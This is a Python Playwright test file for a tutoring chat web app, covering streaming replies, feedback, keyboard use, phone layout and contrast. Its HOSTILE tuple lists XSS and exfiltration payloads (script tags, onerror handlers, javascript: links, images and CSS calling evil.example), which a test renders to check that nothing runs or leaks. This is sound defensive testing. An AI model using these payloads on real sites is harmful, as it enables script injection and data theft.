"""The pages in headless Chromium: what a person sees and does."""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from homeroom.chat.testing import PacedChatModel
from homeroom.errors import ProviderError
from homeroom.schema.jobs import Job
from homeroom.storage import Scope

pytestmark = pytest.mark.browser
playwright = pytest.importorskip("playwright.sync_api")
expect = playwright.expect

CHROMIUM = os.environ.get("HOMEROOM_CHROMIUM", "/usr/bin/chromium")
FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
TUTOR = "ft:base:homeroom:tutor:1a2b3c4d"
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
# What must never run, load or leave, however a model writes it.
HOSTILE = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<img src='https://evil.example/a.png'>",
    "![leak](https://evil.example/leak.png?secret)",
    "![x](x){onerror=window.hacked=1}",
    "[click](javascript:window.hacked=1)",
    "[click](  JaVaScRiPt:window.hacked=1)",
    "[click](data:text/html,<script>window.hacked=1</script>)",
    "[click](vbscript:x)",
    "<a href='javascript:window.hacked=1'>x</a>",
    "<svg onload='window.hacked=1'><script>window.hacked=1</script></svg>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='https://evil.example'></object>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css); body { display: none }</style>",
    "<form action='https://evil.example'><input name=a></form>",
    "<div style='background:url(https://evil.example/x.png)'>x</div>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video src='https://evil.example/v.mp4' autoplay></video>",
    "<div x-data x-init='window.hacked = 1' hx-get='https://evil.example' hx-trigger='load'>x</div>",
    "<math><mtext><mglyph><style><img src=x onerror=window.hacked=1></style></mglyph></mtext></math>",
    "$\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{https://evil.example/x.png}$ $\\htmlStyle{color:red}{x}$",
    "$$\\def\\a{\\a\\a}\\a$$",
    "[ref]: javascript:window.hacked=1\n\n[ref]",
    "<javascript:window.hacked=1>",
    "```html\n<script>window.hacked = 1</script>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |",
)


@dataclass
class Tab:
    """A page, and everything that went wrong in it."""

    page: Any
    url: str
    problems: list[str] = field(default_factory=list)
    expected: list[str] = field(default_factory=list)

    def open(self, path: str) -> Any:
        self.page.goto(self.url + path)
        return self.page

    def send(self, text: str) -> None:
        """Write a message and press Enter."""
        self.page.fill("#message", text)
        self.page.press("#message", "Enter")

    def ask(self, text: str) -> None:
        """Send a message and wait for the whole reply."""
        before = self.page.locator(".exchange").count()
        self.send(text)
        expect(self.page.locator(".exchange")).to_have_count(before + 1)
        expect(self.page.locator("[data-reply]")).to_have_count(0)

    def check(self) -> None:
        unexpected = [p for p in self.problems if not any(text in p for text in self.expected)]
        assert unexpected == []
        assert self.page.evaluate("window.hacked") is None


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM}; name another one in HOMEROOM_CHROMIUM")
    with playwright.sync_playwright() as runner:
        chromium = runner.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield chromium
        chromium.close()


@pytest.fixture
def site(live):
    return live[0]


@pytest.fixture
def open_tab(browser, live) -> Iterator[Callable[..., Tab]]:
    _, url = live
    tabs: list[tuple[Tab, Any]] = []

    def make(**options: Any) -> Tab:
        context = browser.new_context(**options)
        context.set_default_timeout(10_000)
        tab = Tab(context.new_page(), url)
        page, problems = tab.page, tab.problems
        page.on("console", lambda m: problems.append(f"{m.type}: {m.text}") if m.type in {"error", "warning"} else None)
        page.on("pageerror", lambda error: problems.append(f"exception: {error}"))
        page.on("request", lambda r: None if r.url.startswith((url, "data:")) else problems.append(f"foreign request: {r.url}"))
        tabs.append((tab, context))
        return tab

    yield make
    for tab, context in tabs:
        tab.check()
        context.close()


@pytest.fixture
def tab(open_tab) -> Tab:
    return open_tab()


def test_a_reply_streams_and_stays(site, tab: Tab) -> None:
    model = site.add_model(
        PacedChatModel("ft:slow", lambda m: "You wrote **2/5**. Is $\\frac{1}{2}$ more?", hold_after=2), title="Slow"
    )
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:slow")
    tab.send("I got 2/5.")
    stream = page.locator("[data-stream]")
    expect(stream).to_have_text("You wrote")
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    expect(page.get_by_role("button", name="Send")).to_be_hidden()
    model.release()
    expect(page.locator(".md strong")).to_have_text("2/5")
    expect(page.locator(".md .katex")).to_have_count(1)
    expect(page.locator("[data-reply]")).to_have_count(0)
    assert "/chat/conv-" in page.url
    expect(page.locator("#conversations li")).to_have_count(1)
    expect(page.locator("#talk-title")).to_have_text("I got 2/5.")
    page.reload()
    expect(page.locator(".bubble")).to_have_text("I got 2/5.")
    expect(page.locator(".md .katex")).to_have_count(1)


@pytest.mark.parametrize("how", ["button", "escape"])
def test_stopping_keeps_what_came(site, tab: Tab, how: str) -> None:
    site.add_model(PacedChatModel("ft:slow", lambda m: "one two three", hold_after=2), title="Slow")
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:slow")
    tab.send("Count.")
    expect(page.locator("[data-stream]")).to_have_text("one two")
    if how == "button":
        page.get_by_role("button", name="Stop").click()
    else:
        page.keyboard.press("Escape")
    expect(page.locator(".note")).to_have_text("Stopped here.")
    expect(page.locator(".md")).to_have_text("one two")
    expect(page.get_by_role("button", name="Send")).to_be_visible()


def test_closing_the_page_keeps_what_came(site, open_tab) -> None:
    model = site.add_model(PacedChatModel("ft:long", lambda m: "word " * 20_000, pause_s=0.002), title="Long")
    tab = open_tab()
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:long")
    tab.send("Go on.")
    expect(page.locator("[data-stream]")).to_contain_text("word word")
    page.goto("about:blank")
    assert model.closed.wait(10)
    (conversation,) = site.desk.conversations.list(Scope())
    for _ in range(200):  # the server stores it a moment after the model ended
        (exchange,) = site.desk.conversations.exchanges(Scope(), conversation.id)
        if exchange.chosen is not None:
            break
        time.sleep(0.05)
    assert exchange.chosen is not None
    assert exchange.chosen.state == "stopped"
    assert exchange.chosen.text.startswith("word word")


def test_answering_again_and_going_back(site, tab: Tab) -> None:
    answers = iter(["first answer", "second answer"])
    site.add_model(PacedChatModel("ft:many", lambda m: next(answers)), title="Many")
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:many")
    tab.ask("Hello")
    page.get_by_role("button", name="Answer again").click()
    expect(page.locator(".md")).to_have_text("second answer")
    expect(page.locator(".variants")).to_contain_text("2/2")
    page.get_by_role("button", name="Previous answer").click()
    expect(page.locator(".md")).to_have_text("first answer")
    expect(page.locator(".variants")).to_contain_text("1/2")
    page.reload()
    expect(page.locator(".md")).to_have_text("first answer")


def test_an_error_is_shown_where_it_happened_and_can_be_tried_again(site, tab: Tab) -> None:
    model = site.add_model(
        PacedChatModel("ft:bad", lambda m: "fine now", fail_at=0, error=ProviderError("the engine is not running"))
    )
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:bad")
    tab.send("Hello")
    expect(page.locator(".exchange .inline-error")).to_contain_text("The engine is not running")
    model.error = None
    page.get_by_role("button", name="Try again").click()
    expect(page.locator(".md")).to_have_text("fine now")
    expect(page.locator(".inline-error:visible")).to_have_count(0)


def test_a_refused_message_is_explained_and_not_lost(site, tab: Tab) -> None:
    tab.expected += ["404", "ERR_FAILED"]
    tab.page.route("**/events**", lambda route: route.abort())  # the picker stays as it is
    page = tab.open("/chat")
    page.evaluate("document.querySelector('#chat-model').innerHTML = '<option value=gone>Gone</option>'")
    tab.send("Hello")
    expect(page.locator(".foot .inline-error")).to_contain_text("There is no model 'gone'")
    expect(page.locator("#message")).to_have_value("Hello")


def test_what_models_write_never_runs_loads_or_leaves(site, tab: Tab) -> None:
    text = "\n\n".join(HOSTILE)
    site.add_model(PacedChatModel("ft:evil", lambda m: text), title="Evil")
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:evil")
    tab.ask(text)
    page.reload()
    expect(page.locator(".md.rendered")).to_have_count(1)
    inside = page.locator(".md")
    for tag in ("img", "script", "iframe", "object", "form", "style", "link", "video", "base", "meta", "input"):
        assert inside.locator(tag).count() == 0
    # SVG and MathML come from KaTeX only.
    assert inside.locator("svg:not(.katex svg)").count() == 0
    hrefs = inside.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert all(href is None or href.startswith(("https://", "http://", "mailto:")) for href in hrefs)
    for attribute in ("onerror", "onload", "x-init", "x-data", "hx-get"):
        assert inside.locator(f"[{attribute}]").count() == 0
    assert page.locator(".bubble").inner_text().startswith("<script>")
    assert page.url.startswith(tab.url)


def test_feedback_with_a_better_answer_and_consent(site, tab: Tab) -> None:
    page = tab.open("/chat")
    tab.ask("Hello")
    page.get_by_role("button", name="Poor answer").click()
    form = page.locator("form.feedback")
    expect(form.get_by_text("May this be used to train models?")).to_be_visible()
    expect(form.locator("input[name=consent]:checked")).to_have_count(0)
    form.get_by_label("Gave the answer away").check()
    form.get_by_label("A better answer").fill("What did you add?")
    form.get_by_label("Yes, it may").check()
    form.get_by_role("button", name="Save").click()
    expect(page.locator(".feedback-saved")).to_contain_text("You allowed its use for training.")
    expect(page.get_by_role("button", name="Poor answer")).to_have_attribute("aria-pressed", "true")
    (conversation,) = site.desk.conversations.list(Scope())
    (exchange,) = site.desk.conversations.exchanges(Scope(), conversation.id)
    given = site.desk.feedback.get(Scope(), exchange.chosen.id)
    assert (given.thumb, given.reason, given.better_answer, given.consent) == (
        "down",
        "Gave the answer away",
        "What did you add?",
        "granted",
    )
    page.get_by_role("button", name="Remove").click()
    expect(page.get_by_role("button", name="Poor answer")).to_have_attribute("aria-pressed", "false")


def test_comparing_two_models(site, tab: Tab) -> None:
    page = tab.open("/compare")
    tab.send("What is 1/2 + 1/3?")
    expect(page.locator(".answer")).to_have_count(2)
    expect(page.locator(".answer").nth(0)).to_contain_text("What did you do first?")
    expect(page.locator(".answer").nth(1)).to_contain_text("The answer is 5/6.")
    page.get_by_role("button", name="This one is better").nth(1).click()
    expect(page.locator(".answer-picked")).to_contain_text("The answer is 5/6.")
    assert "/compare/conv-" in page.url
    page.reload()
    expect(page.locator(".answer-picked")).to_contain_text("The answer is 5/6.")


def test_practising_to_the_end(tab: Tab) -> None:
    page = tab.open("/")
    page.get_by_role("button", name="Teach Zainab").click()
    expect(page.locator(".opening")).to_contain_text("Zainab has answered")
    tab.ask("How did you get 2/6?")
    expect(page.locator(".md")).to_have_text("I added the tops and the bottoms.")
    tab.ask("Great job! Do you see?")
    page.get_by_role("button", name="End and read the notes").click()
    expect(page.get_by_role("heading", name="Your session with Zainab")).to_be_visible()
    for words in ("How did you get 2/6?", "Great job!", "Do you see?"):
        expect(page.locator("blockquote", has_text=words).first).to_be_visible()
    expect(page.locator(".suggestion")).to_contain_text("You could say")
    page.get_by_role("link", name="Choose another learner").click()
    expect(page.locator(".session-link")).to_contain_text("Read the notes")


def test_a_new_model_appears_in_the_picker_without_reload(site, tab: Tab) -> None:
    page = tab.open("/chat")
    page.evaluate("window.sameDocument = true")
    page.fill("#message", "draft that must stay")
    expect(page.locator("#chat-model option")).to_have_count(2)
    page.wait_for_timeout(300)  # the stream of events is open
    site.add_model(PacedChatModel("ft:new", lambda m: "I am new."), title="Newest tutor")
    expect(page.locator("#chat-model option", has_text="Newest tutor")).to_have_count(1)
    expect(page.locator(".toast")).to_contain_text("New model: Newest tutor")
    expect(page.locator("#chat-model")).to_have_value(TUTOR)
    expect(page.locator("#message")).to_have_value("draft that must stay")
    page.select_option("#chat-model", "ft:new")
    tab.ask("Hello")
    expect(page.locator(".md")).to_have_text("I am new.")
    assert page.evaluate("window.sameDocument") is True


def test_a_pick_made_while_the_list_is_fetched_stays(tab: Tab) -> None:
    tab.page.route("**/models/picker**", lambda route: (time.sleep(0.5), route.continue_()))
    page = tab.open("/chat")
    with page.expect_response("**/models/picker**"):
        page.select_option("#chat-model", "base")
    page.wait_for_timeout(200)
    expect(page.locator("#chat-model")).to_have_value("base")


def test_a_job_shows_its_progress_by_itself(site, tab: Tab) -> None:
    page = tab.open("/jobs")
    expect(page.get_by_text("Nothing has run yet")).to_be_visible()
    site.jobs.append(Job("job-1", "tune", "running", progress=0.25, message="step 1 of 4"))
    expect(page.locator("progress")).to_have_attribute("value", "25")
    expect(page.locator("#banner")).to_contain_text("Answers are slower while a job runs.")
    site.jobs[:] = [Job("job-1", "tune", "succeeded", progress=1.0, message="done")]
    expect(page.locator(".chip-succeeded")).to_be_visible()
    expect(page.locator("#banner")).to_have_text("")


def test_settings_are_edited_in_place(site, tab: Tab) -> None:
    tab.expected.append("400")
    page = tab.open("/models")
    card = page.locator(".model", has_text="Course tutor")
    card.get_by_role("button", name="Settings").click()
    card.get_by_label("Temperature").fill("9")
    card.get_by_role("button", name="Save").click()
    expect(page.locator("#notices")).to_contain_text("Temperature: '9' is not a number from 0 to 2")
    site.add_model(PacedChatModel("ft:new", lambda m: "x"), title="Newest tutor")
    expect(page.locator(".toast")).to_contain_text("The list of models changed")
    expect(card.get_by_label("Temperature")).to_have_value("9")  # nothing was taken away under the editor
    card.get_by_label("Temperature").fill("0.3")
    card.get_by_role("button", name="Save").click()
    expect(card.locator(".saved")).to_be_visible()
    expect(page.locator("#notices")).to_have_text("")
    assert next(c for c in site.desk.models.list() if c.name == TUTOR).settings["temperature"] == 0.3


def test_the_whole_way_with_the_keyboard_alone(tab: Tab) -> None:
    page = tab.open("/")
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("#main")).to_be_focused()
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent.includes('Teach Zainab')"):
            break
    page.keyboard.press("Enter")
    expect(page.locator("#message")).to_be_focused()
    page.keyboard.type("How did you")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("get 2/6?")
    page.keyboard.press("Enter")
    expect(page.locator(".bubble")).to_have_text("How did you\nget 2/6?")
    expect(page.locator(".md")).to_have_text("I added the tops and the bottoms.")
    expect(page.locator("#message")).to_be_focused()
    expect(page.get_by_role("status").filter(has_text="The answer is complete.")).to_have_count(1)
    for _ in range(20):
        page.keyboard.press("Shift+Tab")
        if page.evaluate("document.activeElement.id") == "finish":
            break
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Your session with Zainab")).to_be_visible()


def test_what_has_the_focus_is_visible(tab: Tab) -> None:
    page = tab.open("/models")
    for _ in range(8):
        page.keyboard.press("Tab")
        outline = page.evaluate(
            "getComputedStyle(document.activeElement).outlineStyle + getComputedStyle(document.activeElement).outlineWidth"
        )
        assert outline == "solid3px"


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_never_scrolls_sideways(site, open_tab, scheme: str) -> None:
    site.add_model(
        PacedChatModel("ft:wide", lambda m: "x" * 300 + "\n\n```\n" + "y" * 300 + "\n```\n\n$$" + "a+" * 100 + "b$$"),
        title="W" * 90,
    )
    site.jobs.append(Job("job-1", "tune", "running", progress=0.5, message="step " * 20))
    tab = open_tab(**PHONE, color_scheme=scheme)
    page = tab.open("/chat")
    page.select_option("#chat-model", "ft:wide")
    tab.ask("z" * 300)
    page.get_by_role("button", name="Good answer").click()
    expect(page.locator("form.feedback")).to_be_visible()
    paths = ["/chat", "/compare", "/models", "/jobs", "/jobs/job-1", "/nope", "/"]
    tab.expected.append("404")
    for path in [None, *paths]:
        if path is not None:
            tab.open(path)
        width = page.evaluate("[document.documentElement.scrollWidth, document.body.scrollWidth]")
        assert width == [390, 390], path
    page.get_by_role("button", name="Teach Zainab").click()
    expect(page.locator("#message")).to_be_visible()
    tab.ask("Why?")
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert page.locator("#message").bounding_box()["y"] < 844
    page.get_by_role("button", name="End and read the notes").click()
    expect(page.locator(".suggestion")).to_be_visible()
    assert page.evaluate("document.documentElement.scrollWidth") == 390


def test_the_drawer_on_a_phone(open_tab) -> None:
    tab = open_tab(**PHONE)
    page = tab.open("/chat")
    tab.ask("Hello")
    tab.open("/chat")
    expect(page.locator("#side a", has_text="Hello")).to_be_hidden()
    page.get_by_role("button", name="Conversations").click()
    page.locator("#side a", has_text="Hello").click()
    expect(page.locator(".bubble")).to_have_text("Hello")


def test_deleting_the_open_conversation_leads_to_a_new_one(tab: Tab) -> None:
    page = tab.open("/chat")
    tab.ask("Hello")
    page.on("dialog", lambda dialog: dialog.accept())
    page.locator("#conversations li").hover()
    page.get_by_role("button", name="Delete “Hello”").click()
    expect(page.locator("[data-empty]")).to_be_visible()
    assert page.url == tab.url + "/chat"


def test_copying_gives_the_markdown(site, open_tab) -> None:
    tab = open_tab(permissions=["clipboard-read", "clipboard-write"])
    page = tab.open("/chat")
    page.select_option("#chat-model", "base")
    tab.ask("Hello")
    page.get_by_role("button", name="Copy the answer").click()
    expect(page.locator(".toast")).to_have_text("Copied.")
    assert page.evaluate("navigator.clipboard.readText()") == "The answer is **5/6**."


def test_nothing_moves_for_those_who_asked_for_that(open_tab) -> None:
    tab = open_tab(reduced_motion="reduce")
    page = tab.open("/")
    assert page.evaluate("getComputedStyle(document.querySelector('.scenario')).transitionDuration") in {"1e-05s", "0.00001s"}


def test_text_has_contrast_in_both_schemes(open_tab) -> None:
    script = """() => {
      const parse = (c) => c.match(/[\\d.]+/g).map(Number);
      const lum = ([r, g, b]) => { const f = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
        return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b); };
      const ground = (el) => { for (let e = el; e; e = e.parentElement) { const c = parse(getComputedStyle(e).backgroundColor);
        if (c.length < 4 || c[3] > 0.95) return c; } return [255, 255, 255]; };
      const low = [];
      for (const el of document.querySelectorAll('body *')) {
        const own = [...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
        if (!own || !el.checkVisibility() || el.closest('code, .sr-only, svg, noscript, :disabled')) continue;
        const [a, b] = [lum(parse(getComputedStyle(el).color)), lum(ground(el))];
        const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
        if (ratio < 4.5) low.push(el.className + ': ' + el.textContent.trim().slice(0, 40) + ' ' + ratio.toFixed(2));
      }
      return low; }"""
    for scheme in ("light", "dark"):
        tab = open_tab(color_scheme=scheme)
        for path in ("/", "/chat", "/compare", "/models", "/jobs"):
            page = tab.open(path)
            assert page.evaluate(script) == [], (scheme, path)
